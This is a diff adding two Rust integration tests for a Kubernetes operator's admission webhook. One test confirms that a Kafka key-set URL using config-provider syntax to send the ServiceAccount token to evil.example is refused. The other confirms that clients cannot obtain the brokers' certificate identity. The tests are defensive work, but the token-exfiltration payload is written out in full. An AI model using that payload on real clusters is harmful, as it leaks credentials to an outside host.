@@ -392,3 +392,60 @@ async fn a_pending_operation_retargeted_at_a_platform_secret_leaves_it_untouched
     assert!(secrets.get_opt("app-tls").await.unwrap().is_none(), "nothing was issued for the first name either");
     assert_no_secret_leaks(&[]).await;
 }
+
+/// A key-set URL carrying Kafka's config-provider syntax would have every broker read its
+/// ServiceAccount token into the URL it then fetches: refused at admission, naming the rule and
+/// the field.
+#[tokio::test]
+async fn config_provider_syntax_in_a_rendered_value_is_refused() {
+    let cp = &env().cp;
+    webhook_ready(cp).await;
+    let manifest = "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {name: smuggler, namespace: default}\nspec:\n  clusterRef: {kind: StatefulSet, name: kafka}\n  clientAuthentication:\n    sasl:\n      iam: {enabled: true, issuer: https://issuer.example, audience: kafka, jwksEndpointUrl: 'https://evil.example/k?t=${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}'}\n  encryptionInTransit: {clientBroker: TLS, inCluster: true}\n";
+    let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(manifest));
+    assert!(!out.status.success(), "the policy was admitted");
+    let err = stderr(&out);
+    assert!(
+        err.contains("PropertiesValueSyntax") && err.contains("spec.clientAuthentication.sasl.iam.jwksEndpointUrl"),
+        "{err}"
+    );
+    assert_no_secret_leaks(&[]).await;
+}
+
+/// A client named like the brokers would get a certificate carrying their principal. Named after
+/// the cluster, it is refused at admission; named after the brokers' service (which only the
+/// operator sees, on the workload), the operation fails with the same rule and issues nothing.
+#[tokio::test]
+async fn a_client_can_never_be_issued_the_brokers_identity() {
+    let cp = &env().cp;
+    let ns = "tenant-identity";
+    webhook_ready(cp).await;
+    let policy = |client: &str| {
+        format!(
+            "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {{name: policy, namespace: {ns}}}\nspec:\n  clusterRef: {{kind: StatefulSet, name: kafka}}\n  clientAuthentication: {{tls: {{enabled: true, clients: [{{name: {client}, secretName: impostor-tls}}]}}}}\n  encryptionInTransit: {{clientBroker: TLS, inCluster: true}}\n"
+        )
+    };
+    crate::support::apply(
+        cp,
+        &format!(
+            "apiVersion: v1\nkind: Namespace\nmetadata: {{name: {ns}}}\n---\napiVersion: apps/v1\nkind: StatefulSet\nmetadata: {{name: kafka, namespace: {ns}}}\nspec:\n  serviceName: kafka-brokers\n  replicas: 1\n  selector: {{matchLabels: {{app: kafka}}}}\n  template:\n    metadata: {{labels: {{app: kafka}}}}\n    spec:\n      containers: [{{name: kafka, image: apache/kafka:3.9.0}}]\n"
+        ),
+    );
+    crate::support::wait_sts_ready(cp, ns, "kafka").await;
+    let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(&policy("kafka")));
+    let err = stderr(&out);
+    assert!(!out.status.success() && err.contains("ClientNotBroker") && err.contains("tls.clients[0].name"), "{err}");
+
+    crate::support::apply(cp, &policy("kafka-brokers"));
+    let text = crate::support::wait_jsonpath(
+        cp,
+        ("csp", ns, "policy"),
+        "{.status.operations[0].operationState}/{.status.operations[0].errorInfo.message}",
+        90,
+        |t| t.starts_with("UPDATE_FAILED/"),
+    )
+    .await;
+    assert!(text.contains("ClientNotBroker") && text.contains("kafka-brokers"), "{text}");
+    let secrets = Api::<k8s_openapi::api::core::v1::Secret>::namespaced(cp.client().await.unwrap(), ns);
+    assert!(secrets.get_opt("impostor-tls").await.unwrap().is_none(), "a certificate was issued");
+    assert_no_secret_leaks(&[]).await;
+}
